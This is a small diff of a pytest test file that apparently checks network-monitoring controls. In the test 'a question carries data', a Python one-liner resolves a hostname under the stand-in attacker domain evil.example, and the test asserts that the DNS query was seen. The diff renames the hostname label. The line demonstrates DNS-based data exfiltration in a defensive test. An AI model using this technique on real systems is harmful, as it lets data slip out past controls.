@@ -56,8 +56,8 @@ def test_control_a_name_moves_between_two_questions(internet):
 
 @pytest.mark.control("G7")
 def test_control_a_question_carries_data(internet):
-    internet.host.run(host.PYTHON, "-c", "import socket\ntry: socket.getaddrinfo('stolen-data.evil.example', 80)\nexcept OSError: pass")
-    assert ("A", "stolen-data.evil.example") in internet.dns_questions()
+    internet.host.run(host.PYTHON, "-c", "import socket\ntry: socket.getaddrinfo('asked-by-the-host.evil.example', 80)\nexcept OSError: pass")
+    assert ("A", "asked-by-the-host.evil.example") in internet.dns_questions()
 
 
 @pytest.mark.control("G6")
